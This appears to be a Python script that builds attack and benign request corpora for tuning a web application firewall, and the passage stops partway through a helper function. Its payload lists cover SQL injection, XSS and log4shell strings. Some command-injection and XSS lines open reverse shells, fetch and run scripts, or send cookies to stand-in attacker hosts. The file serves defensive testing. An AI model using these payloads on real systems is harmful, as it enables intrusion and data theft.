# ruff: noqa: E501 - payload and sample lists read best one line each
"""Writes attacks.jsonl and benign.jsonl, the WAF's tuning corpora (run once, committed).

The payloads are hand-picked from public attack write-ups and cheat sheets
(OWASP testing guide, PayloadsAllTheThings-style lists, log4shell and SSRF
bypass write-ups) and placed into realistic JSON API requests at varied
locations and encodings.  Benign requests imitate what real JSON APIs carry.
These are the sets the default rules are tuned on; the held-out corpus is
assembled separately and never read by whoever writes the rules.
"""

from __future__ import annotations

import base64
import json
import random
from pathlib import Path
from urllib.parse import quote

from batch4 import attacks4, benign4  # run as a script: this directory is on sys.path
from batch5 import attacks5, benign5
from batch6 import attacks6, benign6
from batch7 import attacks7, benign7
from batch8 import attacks8, benign8

HERE = Path(__file__).parent
rng = random.Random(15)

SQLI = [
    "1' OR '1'='1", "' OR 1=1--", "admin'--", "admin' #", "' OR 'a'='a", "1 OR 1=1",
    "1' UNION SELECT username, password FROM users--", "-1 UNION ALL SELECT NULL,NULL,NULL--",
    "1 UnIoN/**/SeLeCt 1,2,3", "1'/**/or/**/'1'='1", "1; DROP TABLE users--",
    "'; EXEC xp_cmdshell('dir')--", "1' AND SLEEP(5)--", "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
    "'; WAITFOR DELAY '0:0:5'--", "1' AND extractvalue(1,concat(0x7e,version()))--",
    "1 AND updatexml(1,concat(0x7e,(SELECT user())),1)", "' ORDER BY 3--", "1 ORDER BY 10#",
    "x' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--",
    "1' AND ascii(substring((SELECT password FROM users LIMIT 1),1,1))>64--",
    "' UNION SELECT table_name FROM information_schema.tables--", "1) OR (1=1",
    "') OR ('1'='1", "\" OR \"\"=\"", "' OR ''='", "1' || '1'='1", "1 || 1=1",
    "'; SELECT pg_sleep(5)--", "1; SELECT load_file('/etc/passwd')",
    "' UNION SELECT 1, @@version--", "1' AND 1=CAST((SELECT version()) AS int)--",
    "' AND BENCHMARK(5000000,MD5(1))--", "admin' or 1=1 limit 1 -- -",
    "1%27%20OR%20%271%27%3D%271", "%2527%20OR%201%3D1--", "ＵＮＩＯＮ ＳＥＬＥＣＴ password FROM users",
    "1 AND 1=1 UNION SELECT name, sql FROM sqlite_master", "' or true--", "x' or not 'x'='y",
    "1' AND (SELECT 1 FROM pg_catalog.pg_tables LIMIT 1)=1--",
    "';shutdown--", "1 into outfile '/var/www/shell.php'", "1' GROUP BY 1,2,3--",
    "CHAR(83)+CHAR(69)+CHAR(76)", "' OR username LIKE '%admin%'--",
]
XSS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(document.domain)>",
    "<body onload=alert('xss')>", "javascript:alert(document.cookie)", "\"><script>alert(1)</script>",
    "'><img src=x onerror=prompt(1)>", "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(1)\">click</a>", "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<ScRiPt>alert(1)</sCrIpT>", "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>alert&#40;1&#41;</script>", "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">",
    "<div style=\"background:url(javascript:alert(1))\">", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "java\tscript:alert(1)",
    "<marquee onstart=alert(1)>", "<video><source onerror=\"alert(1)\">", "\" onmouseover=\"alert(1)",
    "<img src=x onerror=fetch('https://evil.example/?c='+document.cookie)>", "<embed src=javascript:alert(1)>",
    "<base href=\"javascript:alert(1)//\">", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "＜script＞alert(1)＜/script＞", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E", "<img src=1 onerror=\\u0061lert(1)>",
    "data:text/html,<script>alert(1)</script>", "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "';alert(String.fromCharCode(88,83,83))//", "<form action=javascript:alert(1)><input type=submit>",
    "<x onclick=alert(1)>click", "<style>@import 'javascript:alert(1)';</style>",
    "<img src=`x` onerror=`alert(1)`>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
]
TRAVERSAL = [
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//....//etc/passwd", "..\\..\\..\\windows\\win.ini", "%252e%252e%252f%252e%252e%252fetc/shadow",
    "/etc/passwd", "../../../../proc/self/environ", "..%c0%af..%c0%afetc/passwd",
    "php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd",
    "../../../../../../boot.ini", "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
    "/var/www/../../etc/passwd", "....\\\\....\\\\windows\\\\win.ini", "../../../../root/.ssh/id_rsa",
    "..%252f..%252f..%252fetc%252fpasswd", "phar://uploads/avatar.jpg/shell", "../../WEB-INF/web.xml",
    "/proc/self/cmdline", "C:\\Windows\\System32\\config\\SAM", "..%00/..%00/etc/passwd",
    "%2e%2e/%2e%2e/%2e%2e/var/log/auth.log", "../../../../../../../../etc/passwd%00.png",
    "expect://id", "../../../../home/app/.env", "..;/..;/..;/etc/passwd",
]
CMDI = [
    "; cat /etc/passwd", "| whoami", "&& id", "`id`", "$(whoami)", "127.0.0.1; ls -la",
    "8.8.8.8 && cat /etc/shadow", "example.com | nc attacker.example 4444 -e /bin/sh",
    "; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "x || curl http://evil.example/s.sh | sh",
    "; wget http://evil.example/x -O /tmp/x; chmod +x /tmp/x; /tmp/x", "|| ping -c 10 127.0.0.1",
    "test$(sleep 5)", "a;id;", "%3Bcat%20%2Fetc%2Fpasswd", "file.txt; rm -rf /", "${IFS}cat${IFS}/etc/passwd",
    "; python -c 'import socket,subprocess,os;s=socket.socket()'", "| powershell -enc SQBFAFgA",
    "& cmd /c dir", "; nslookup $(whoami).attacker.example", "`curl attacker.example`",
    "x\n/bin/sh -c id", "; echo dGVzdA== | base64 -d | sh", "|cat${IFS}/etc/passwd",
    "1;uname -a", "$(curl -s http://evil.example/$(hostname))", "; mkfifo /tmp/f; nc 10.0.0.1 4444 < /tmp/f",
    "{cat,/etc/passwd}", "a|/usr/bin/id",
]
SSRF = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://127.0.0.1:8080/admin",
    "http://localhost/server-status", "http://2130706433/", "http://0x7f000001/", "http://0177.0.0.1/",
    "http://[::1]:6379/", "http://[::ffff:127.0.0.1]/", "http://metadata.google.internal/computeMetadata/v1/",
    "gopher://127.0.0.1:6379/_FLUSHALL", "dict://localhost:11211/stats", "file:///etc/passwd",
    "http://10.0.0.5:9200/_cat/indices", "http://192.168.1.1/admin", "http://172.16.0.10:2375/containers/json",
    "http://169.254.169.254.nip.io/", "http://0/", "http://127.1/", "http://0.0.0.0:22",
    "http://[fd00:ec2::254]/latest/meta-data/", "http://100.100.100.200/latest/meta-data/",
    "http://user:pass@127.0.0.1:8000/", "https://evil.example@169.254.169.254/", "http://127.0.0.1.nip.io/",
    "http://localhost.localdomain/", "169.254.169.254", "http://instance-data/latest/", "http://[0:0:0:0:0:ffff:7f00:1]/",
    "ldap://127.0.0.1:389/", "http://kubernetes.default.svc/api/v1/secrets", "http://%31%32%37%2e%30%2e%30%2e%31/",
    "http://017700000001/", "jar:http://127.0.0.1!/", "netdoc:///etc/passwd",
]
SSTI = [
    "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{lipsum.__globals__.os.popen('id').read()}}", "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "#set($x=$class.forName('java.lang.Runtime'))", "{{self._TemplateReference__context.cycler.__init__.__globals__.os}}",
    "{% import os %}{{ os.system('id') }}", "{{ ''|attr('__class__') }}", "${{7*7}}", "@{7*7}",
    "{{constructor.constructor('alert(1)')()}}", "*{7*7}", "{{=7*7}}", "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
    "${\"\".getClass().forName(\"java.lang.Runtime\")}", "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
    "{{7*'7'}}", "{{ [].__class__.__base__.__subclasses__() }}",
]
JNDI = [
    "${jndi:ldap://attacker.example/a}", "${jndi:rmi://attacker.example:1099/x}", "${jndi:dns://attacker.example/x}",
    "${${lower:j}ndi:${lower:l}dap://attacker.example/a}", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/a}",
    "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://x.example/}", "${jndi:${lower:l}${lower:d}a${lower:p}://x.example/}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}", "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
    "${jndi:ldaps://x.example/a}", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.example/a}", "${jndi:iiop://x.example/a}", "${${::-j}ndi:ldap://x.example/a}",
    "${jNdI:lDaP://x.example/a}", "${${lower:${lower:jndi}}:${lower:rmi}://x.example/a}",
]
SCANNER_UA = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
    "gobuster/3.6", "Fuzz Faster U Fool v2.1.0", "Wfuzz/3.1.0", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Mozilla/5.0 zgrab/0.x", "Acunetix-WVS/12",
    "Mozilla/5.0 (Windows NT 10.0) Netsparker", "DirBuster-1.0-RC1", "w3af.org", "commix/v3.8",
]
SCANNER_PATHS = ["/.env", "/.git/config", "/wp-login.php", "/wp-admin/install.php", "/phpmyadmin/index.php",
                 "/.aws/credentials", "/server-status", "/actuator/env", "/xmlrpc.php", "/.DS_Store",
                 "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci", "/.svn/entries"]

FIELDS = ["comment", "q", "name", "title", "description", "url", "callback", "file", "path", "host",
          "search", "note", "redirect", "template", "username", "email", "filter", "sort", "id"]

# A second batch, written after the first rules (so also tuned on): (category, payload);
# UA: goes in the user agent, PATH: is the request path, anything else a JSON field or query.
SECOND_BATCH = [
 [
  "sqli",
  "' or 1=1 limit 1#"
 ],
 [
  "sqli",
  "1' and '1'='1"
 ],
 [
  "sqli",
  "' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055"
 ],
 [
  "sqli",
  "1;SELECT IF((8303>8302),SLEEP(9),2356)#"
 ],
 [
  "sqli",
  "1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71))s), 8446744073709551610, 8446744073709551610)))-- "
 ],
 [
  "sqli",
  "admin\")-- "
 ],
 [
  "sqli",
  "') or ('x')=('x"
 ],
 [
  "sqli",
  "\" or 1=1--"
 ],
 [
  "sqli",
  "1 and 1=2 union select 1,group_concat(table_name),3 from information_schema.tables"
 ],
 [
  "sqli",
  "' HAVING 1=1--"
 ],
 [
  "sqli",
  "'+(select*from(select(sleep(20)))a)+'"
 ],
 [
  "sqli",
  "1 OR pg_sleep(5)--"
 ],
 [
  "sqli",
  "-1' or 2 > 1 --"
 ],
 [
  "sqli",
  "%' AND 1=1 AND '%'='"
 ],
 [
  "sqli",
  "'||(SELECT version())||'"
 ],
 [
  "sqli",
  "1' AND 1=(SELECT 1 FROM dual)--"
 ],
 [
  "xss",
  "<svg onload=alert(1)//"
 ],
 [
  "xss",
  "<img src=x:alert(alt) onerror=eval(src) alt=0>"
 ],
 [
  "xss",
  "<a href=\"jav&#x09;ascript:alert('XSS');\">Click</a>"
 ],
 [
  "xss",
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>"
 ],
 [
  "xss",
  "\"><svg/onload=confirm`1`>"
 ],
 [
  "xss",
  "<body background=\"javascript:alert(1)\">"
 ],
 [
  "xss",
  "<sVg OnLoAd=alert(1)>"
 ],
 [
  "xss",
  "<keygen autofocus onfocus=alert(1)>"
 ],
 [
  "xss",
  "'-alert(1)-'"
 ],
 [
  "xss",
  "\";alert(1);//"
 ],
 [
  "xss",
  "</title><script>alert(1)</script>"
 ],
 [
  "xss",
  "<img src=\"x\" onerror=\"&#x61;lert(1)\">"
 ],
 [
  "xss",
  "<audio src=x onerror=alert(1)>"
 ],
 [
  "xss",
  "<select autofocus onfocus=alert(1)>"
 ],
 [
  "xss",
  "<textarea autofocus onfocus=alert(1)>"
 ],
 [
  "xss",
  "<script src=//evil.example/x.js></script>"
 ],
 [
  "xss",
  "{{constructor.constructor('alert(1)')()}}"
 ],
 [
  "path_traversal",
  "../../../../../../etc/passwd%00"
 ],
 [
  "path_traversal",
  "..%255c..%255c..%255cwindows%255cwin.ini"
 ],
 [
  "path_traversal",
  "/../../../../../../../../../../etc/hosts"
 ],
 [
  "path_traversal",
  "..../..../..../etc/passwd"
 ],
 [
  "path_traversal",
  "/%2e%2e/%2e%2e/%2e%2e/etc/passwd"
 ],
 [
  "path_traversal",
  "\\..\\..\\..\\..\\..\\windows\\system32\\config\\sam"
 ],
 [
  "path_traversal",
  "../../../../../../var/run/secrets/kubernetes.io/serviceaccount/token"
 ],
 [
  "path_traversal",
  "file:/etc/passwd"
 ],
 [
  "path_traversal",
  "../../../../../app/config/database.yml"
 ],
 [
  "command_injection",
  ";ls -la"
 ],
 [
  "command_injection",
  "|id"
 ],
 [
  "command_injection",
  "`whoami`"
 ],
 [
  "command_injection",
  "$(cat /etc/passwd)"
 ],
 [
  "command_injection",
  "; curl http://evil.example/shell.sh | bash"
 ],
 [
  "command_injection",
  "&& ping -c 3 evil.example"
 ],
 [
  "command_injection",
  "| nc -e /bin/bash 10.0.0.1 4444"
 ],
 [
  "command_injection",
  "; sleep 10"
 ],
 [
  "command_injection",
  "127.0.0.1 | dir"
 ],
 [
  "command_injection",
  ";system('id')"
 ],
 [
  "command_injection",
  "%0Aid"
 ],
 [
  "command_injection",
  "a%0a%0dcat%20/etc/passwd"
 ],
 [
  "command_injection",
  "|| whoami"
 ],
 [
  "command_injection",
  "; ls${IFS}-la"
 ],
 [
  "command_injection",
  "$(nslookup evil.example)"
 ],
 [
  "command_injection",
  "; /bin/bash -c 'bash -i >& /dev/tcp/1.2.3.4/80 0>&1'"
 ],
 [
  "ssrf",
  "http://127.0.0.1:22"
 ],
 [
  "ssrf",
  "http://[::]:80/"
 ],
 [
  "ssrf",
  "http://0x7f.0x0.0x0.0x1/"
 ],
 [
  "ssrf",
  "http://localhost:6379/"
 ],
 [
  "ssrf",
  "http://169.254.169.254/computeMetadata/v1/instance/"
 ],
 [
  "ssrf",
  "http://metadata/computeMetadata/v1/"
 ],
 [
  "ssrf",
  "http://192.168.0.1:8080/login"
 ],
 [
  "ssrf",
  "http://10.1.2.3/internal/api"
 ],
 [
  "ssrf",
  "https://127.0.0.1/"
 ],
 [
  "ssrf",
  "gopher://localhost:25/_HELO"
 ],
 [
  "ssrf",
  "http://2852039166/"
 ],
 [
  "ssrf",
  "http://0251.0376.0251.0376/"
 ],
 [
  "ssrf",
  "http://[::ffff:a9fe:a9fe]/"
 ],
 [
  "ssrf",
  "http://127.0.0.1%2523@evil.example/"
 ],
 [
  "ssrf",
  "http://localtest.me/"
 ],
 [
  "ssrf",
  "http://spoofed.burpcollaborator.net"
 ],
 [
  "ssti",
  "{{7*7}}[[5*5]]"
 ],
 [
  "ssti",
  "${{<%[%'\"}}%\\."
 ],
 [
  "ssti",
  "{{ config }}"
 ],
 [
  "ssti",
  "{{ self.__init__.__globals__.__builtins__ }}"
 ],
 [
  "ssti",
  "<%= system(\"id\") %>"
 ],
 [
  "ssti",
  "${7*7}"
 ],
 [
  "ssti",
  "#{7*7}"
 ],
 [
  "ssti",
  "{{'a'.toUpperCase()}}"
 ],
 [
  "ssti",
  "{php}echo `id`;{/php}"
 ],
 [
  "ssti",
  "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"
 ],
 [
  "jndi",
  "${jndi:ldap://127.0.0.1:1389/Basic/Command/Base64/d2dldA==}"
 ],
 [
  "jndi",
  "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.com/a}"
 ],
 [
  "jndi",
  "${jndi:${lower:d}${lower:n}${lower:s}://evil.example}"
 ],
 [
  "jndi",
  "${j${lower:n}di:ldap://x/}"
 ],
 [
  "jndi",
  "${${::-j}ndi:rmi://evil/a}"
 ],
 [
  "scanner",
  "UA:Mozilla/5.0 (compatible; Nuclei)"
 ],
 [
  "scanner",
  "UA:sqlmap/1.4"
 ],
 [
  "scanner",
  "UA:Nikto"
 ],
 [
  "command_injection",
  "UA:() { :; }; /bin/bash -c 'cat /etc/passwd'"
 ],
 [
  "jndi",
  "UA:${jndi:ldap://evil/a}"
 ],
 [
  "scanner",
  "PATH:/.git/HEAD"
 ],
 [
  "scanner",
  "PATH:/.env.production"
 ],
 [
  "scanner",
  "PATH:/wp-content/plugins/revslider/temp/update_extract/revslider/shell.php"
 ],
 [
  "scanner",
  "PATH:/admin/config.php.bak"
 ],
 [
  "scanner",
  "PATH:/backup.sql"
 ],
 [
  "path_traversal",
  "PATH:/.well-known/../etc/passwd"
 ],
 [
  "path_traversal",
  "PATH:/api/../../../etc/passwd"
 ],
 [
  "scanner",
  "PATH:/phpinfo.php"
 ],
 [
  "scanner",
  "PATH:/debug/pprof/"
 ]
]
# Tricky benign values written with the second batch.
SECOND_BENIGN = [
 "I think we should SELECT the top 10 users by score and ORDER BY created_at.",
 "Fix: use `cursor.execute(\"SELECT * FROM users WHERE id = %s\", (user_id,))` instead of string formatting.",
 "Ran `rm -rf node_modules && npm install` and it works now.",
 "Try `docker compose up -d && docker compose logs -f api`",
 "The bug: `if user.role == 'admin' or user.id == 1:` grants too much.",
 "Use `cat config.yaml | grep port` to check.",
 "She said: \"I'll be there at 5 -- don't wait.\"",
 "Tom's \"special\" offer: 2 for 1!",
 "<p>Watch: <iframe width=\"560\" height=\"315\" src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\" frameborder=\"0\" allowfullscreen></iframe></p>",
 "<p><a href=\"https://example.com\" target=\"_blank\" rel=\"noopener\">link</a></p>",
 "<img src=\"https://example.com/a.png\" alt=\"a\" style=\"width:100%\">",
 "<div class=\"note\"><strong>Note:</strong> back up first.</div>",
 "<p>Formula: a < b && c > d</p>",
 "Windows path: C:\\Program Files\\App\\bin\\app.exe",
 "Linux path: /usr/local/bin/python3",
 "See ../README.md for details",
 "The config lives in /etc/nginx/nginx.conf on the server.",
 "Our staging server is at http://localhost:8080 for now.",
 "callback: https://hooks.example.com/ramparts?id=42&sig=abc",
 "Email me at o'brien@example.ie",
 "{\"nested\": \"json in a string\"}",
 "SELECT",
 "Union Pacific Railroad",
 "Drop-off at 3pm; pick-up at 5pm",
 "1 + 1 = 2, and 2 * 3 = 6",
 "Price: $5 (or 4 for members)",
 "Hello {{name}}, your order {{order_id}} has shipped.",
 "Dear ${firstName}, welcome!",
 "Use the `sleep 5` command in the script to wait.",
 "git commit -m \"fix: handle ' in names\"",
 "The regex is /^[a-z]+$/i",
 "x = y || z; if (a && b) { return; }",
 "for i in $(seq 1 10); do echo $i; done",
 "<b>Bold</b> and <i>italic</i> and <u>underline</u>",
 "&lt;script&gt; tags are escaped by the template",
 "Use onclick handlers sparingly.",
 "Javascript: the good parts is a great book.",
 "We use Java, JavaScript and Python.",
 "The file was uploaded to /uploads/2024/05/photo.jpg",
 "My password is 'hunter2' -- just kidding.",
 "OR-tools is a Google library for optimization.",
 "100% cotton; machine wash 30°C",
 "Question: is 1=1? or 2=2?",
 "I'd like to order 3 pizzas -- 2 margherita, 1 pepperoni.",
 "Meet me @ the café; it's on 5th & Main.",
 "Our API: GET /v1/users?limit=10&offset=20",
 "Run: curl -X POST https://api.example.com/v1/items -d '{\"a\":1}'",
 "Set env: export DATABASE_URL=postgres://user:pass@db.internal:5432/app",
 "ping me when you're back",
 "cat pictures are the best",
 "Contact: John O'Connor <john@example.com>",
 "The <strong>best</strong> deals & offers",
 "Recipe: mix 2 cups flour | 1 cup sugar | 3 eggs",
 "/home/alice/projects/ramparts",
 "Tables: users, orders, order_lines",
 "DELETE this comment please",
 "insert coin to continue",
 "update: shipped today"
]


def _ua() -> str:
    return rng.choice([
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
        "python-requests/2.31.0", "okhttp/4.12.0", "curl/8.5.0", "MyApp/3.2 (iPhone; iOS 17.4)",
    ])


def _place(payload: str, i: int) -> dict:
    """One attack request with the payload at a location picked by ``i``."""
    field = FIELDS[i % len(FIELDS)]
    where = i % 6
    headers = {"user-agent": _ua(), "accept": "application/json"}
    if where == 0:
        return {"method": "GET", "path": "/api/search", "query": f"{field}={quote(payload)}",
                "headers": headers, "body": None}
    if where == 1:
        headers["content-type"] = "application/json"
        return {"method": "POST", "path": "/api/items", "query": "", "headers": headers,
                "body": json.dumps({"id": 17, field: payload, "tags": ["a"]})}
    if where == 2:
        headers["content-type"] = "application/json"
        return {"method": "PUT", "path": "/api/orders/42", "query": "", "headers": headers,
                "body": json.dumps({"order": {"lines": [{"sku": "A-1", "qty": 2}], field: payload}})}
    if where == 3:
        headers["content-type"] = "application/x-www-form-urlencoded"
        return {"method": "POST", "path": "/api/login", "query": "", "headers": headers,
                "body": f"user=alice&{field}={quote(payload)}"}
    if where == 4:
        headers["cookie"] = f"session=abc123; {field}={quote(payload)}"
        return {"method": "GET", "path": "/api/profile", "query": "", "headers": headers, "body": None}
    headers["x-custom-" + field] = payload
    return {"method": "GET", "path": "/api/status", "query": "", "headers": headers, "body": None}


def attacks() -> list[dict]:
    out: list[dict] = []
    groups = {"sqli": SQLI, "xss": XSS, "path_traversal": TRAVERSAL, "command_injection": CMDI,
              "ssrf": SSRF, "ssti": SSTI, "jndi": JNDI}
    for category, payloads in groups.items():
        for i, p in enumerate(payloads):
            # headers cannot carry raw line breaks; those payloads go in a body
            req = _place(p, i if "\n" not in p else 1)
            out.append({"id": f"{category}-{i:03d}", "category": category,
                        "source": "tuning: public cheat sheets", "request": req})
    for i, ua in enumerate(SCANNER_UA):
        out.append({"id": f"scanner-ua-{i:03d}", "category": "scanner", "source": "tuning: tool defaults",
                    "request": {"method": "GET", "path": "/api/items", "query": "",
                                "headers": {"user-agent": ua}, "body": None}})
    for i, (category, payload) in enumerate(SECOND_BATCH):
        if payload.startswith("UA:"):
            req = {"method": "GET", "path": "/api/items", "query": "",
                   "headers": {"user-agent": payload[3:]}, "body": None}
        elif payload.startswith("PATH:"):
            req = {"method": "GET", "path": payload[5:], "query": "",
                   "headers": {"user-agent": _ua()}, "body": None}
        else:
            req = _place(payload, 2 * i + (i % 2))  # JSON fields, queries, forms, cookies, headers
        out.append({"id": f"{category}-b{i:03d}", "category": category,
                    "source": "tuning: second batch", "request": req})
    for i, path in enumerate(SCANNER_PATHS):
        out.append({"id": f"scanner-path-{i:03d}", "category": "scanner", "source": "tuning: probe lists",
                    "request": {"method": "GET", "path": "/static" + path, "query": "",
                                "headers": {"user-agent": _ua()}, "body": None}})
    return out


NAMES = ["O'Reilly", "D'Angelo", "Seán Ó Briain", "Zoë Saldaña", "José Álvarez", "Jean-Luc Picard",
         "Mary-Kate O'Neil", "Nguyễn Văn A", "李小龍", "Андрей Иванов", "محمد عبد الله", "Ólafur Arnalds",
         "Renée Zellweger", "Dr. Samuel L. Jackson, Jr.", "van der Berg", "Shaquille O'Neal", "Bob \"Bobby\" Tables"]
CODE_REVIEW = [
    "Can we avoid `SELECT *` here? List the columns explicitly so the index covers the query.",
    "This builds SQL with f-strings: f\"SELECT id FROM users WHERE email = '{email}'\" -- please use a bound parameter.",
    "nit: `DELETE FROM sessions WHERE expires_at < now()` should run in the cleanup job, not per request.",
    "Run `make test && make lint` before pushing; CI runs the same.",
    "I'd add an index: CREATE INDEX idx_orders_customer ON orders(customer_id);",
    "The migration does ALTER TABLE accounts ADD COLUMN plan text NOT NULL DEFAULT 'free'; which locks the table on big installs.",
    "Use `git rebase -i HEAD~3` to squash these.",
    "LGTM. One question: why `sleep(2)` in the retry loop instead of exponential backoff?",
    "Reproduce with: curl -s https://api.example.com/v1/items | jq '.items[] | .id'",
    "The Dockerfile should `rm -rf /var/lib/apt/lists/*` after apt-get install to keep the layer small.",
    "Prefer `subprocess.run([\"ls\", path])` over os.system(f\"ls {path}\") -- the latter is a shell injection risk.",
    "Maybe UNION the two result sets instead of two round trips?",
    "Tests fail locally: `pytest -q tests/api -k orders` gives 3 failures, see the log.",
    "The query `SELECT count(*) FROM events WHERE kind = 'login' AND ts > now() - interval '1 day'` is slow without the index on ts.",
    "Please don't log the whole request; the `Authorization` header ends up in Kibana.",
    "In bash, `for f in *.json; do jq . \"$f\" > /dev/null || echo \"$f\"; done` finds the broken files.",
    "Good catch on the off-by-one. Also `if (i <= len)` should be `<` in the C version.",
    "This regex ^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$ rejects plus-addressing? No, it's fine.",
    "We should escape user input in the template: {{ comment.body | e }} rather than |safe.",
    "Could you rename `tmp` to `pending_orders`? It's read three screens later.",
    "ORDER BY created_at DESC LIMIT 50 is what the UI expects; the API returns ascending now.",
    "The path join `os.path.join(base, name)` allows `../` in name; use safe_join.",
    "Let's add `set -euo pipefail` at the top of deploy.sh.",
    "Where does the 'or 1' come from in the test name? Typo?",
    "Don't forget to update README.md -- the install command changed to `pip install -e .[dev]`.",
]
URLS = ["https://example.com/products/42?ref=newsletter", "https://cdn.example.net/img/logo.png",
        "http://www.example.org/about", "https://github.com/encode/starlette/pull/2190",
        "https://docs.python.org/3/library/re.html#re.search", "https://maps.google.com/?q=48.8584,2.2945",
        "https://hooks.slack.com/services/T000/B000/XXXX", "https://api.stripe.com/v1/charges",
        "mailto:support@example.com", "https://en.wikipedia.org/wiki/O%27Reilly_Media",
        "https://example.com/search?q=sql+injection+prevention", "https://youtu.be/dQw4w9WgXcQ?t=42"]
RICH_TEXT = [
    "<p>Hello <b>world</b>, see <a href=\"https://example.com\">our site</a>.</p>",
    "<h2>Release notes</h2><ul><li>Faster search</li><li>Dark mode</li></ul>",
    "<p>Photo: <img src=\"https://cdn.example.com/a.jpg\" alt=\"Team at the offsite\" width=\"600\"></p>",
    "<blockquote>To be, or not to be</blockquote><p><em>Hamlet</em>, act 3</p>",
    "<p style=\"color: #333; font-size: 14px\">Styled paragraph</p>",
    "<table><tr><th>Plan</th><th>Price</th></tr><tr><td>Pro</td><td>$20</td></tr></table>",
    "<p>Use <code>&lt;div&gt;</code> for layout &amp; <code>&lt;span&gt;</code> inline.</p>",
    "<ol><li><a href=\"/docs/start\">Getting started</a></li><li><a href=\"/docs/api\">API</a></li></ol>",
    "<p>Line one<br>Line two<br/>Line three</p>", "<p>5 &lt; 7 and 9 &gt; 3</p>",
]
MULTI = ["Привет, как дела? Заказ №1234 готов.", "ご注文ありがとうございます。発送は明日です。",
         "¿Dónde está la estación? Necesito un billete de ida y vuelta.", "Größe: 42, Farbe: Grün — Lieferung nächste Woche",
         "这个产品很好，我会再买的！", "مرحبا، أريد تغيير عنوان الشحن", "שלום, ההזמנה שלי לא הגיעה",
         "Ça coûte 12,50 € — c'est l'été !", "Καλημέρα, το δέμα έφτασε σπασμένο.", "नमस्ते, मेरा ऑर्डर कहाँ है?",
         "안녕하세요, 환불 요청합니다.", "Emoji test 🎉🚀 — done ✅"]
TEXT = ["Please deliver after 5pm; leave at the back door.", "Can't log in -- it says my password is wrong?",
        "Ordered 2x blue, got 1x red & 1x blue. Please fix!", "Meeting at 10:30 (room 4B) / bring laptops",
        "Rating: 5/5 -- would buy again :)", "50% off until Friday! Use code SPRING-24.",
        "Select the size you want from the menu, then add to cart.", "Drop the package at the front desk, or at the table by the door.",
        "Is 1=1 always true? Asking for my maths homework.", "Union members get 10% off; select 'member' at checkout.",
        "Path: Settings > Account > Delete account", "I'll be at 221B Baker Street, London NW1 6XE.",
        "C:\\Users\\alice\\Documents\\report.docx won't open", "Use ../ to go up a directory in the docs link",
        "Price went from $10 to $12 -- why?", "Order #A-1029; ref: INV/2024/0042", "user@example.com; bob@example.org",
        "He said \"it's fine\" -- but it isn't.", "Cats & dogs | pets | supplies", "Call me at +1 (555) 010-0199 ext. 4"]


def _b64_image() -> str:
    raw = bytes(rng.randrange(256) for _ in range(rng.randrange(600, 3000)))
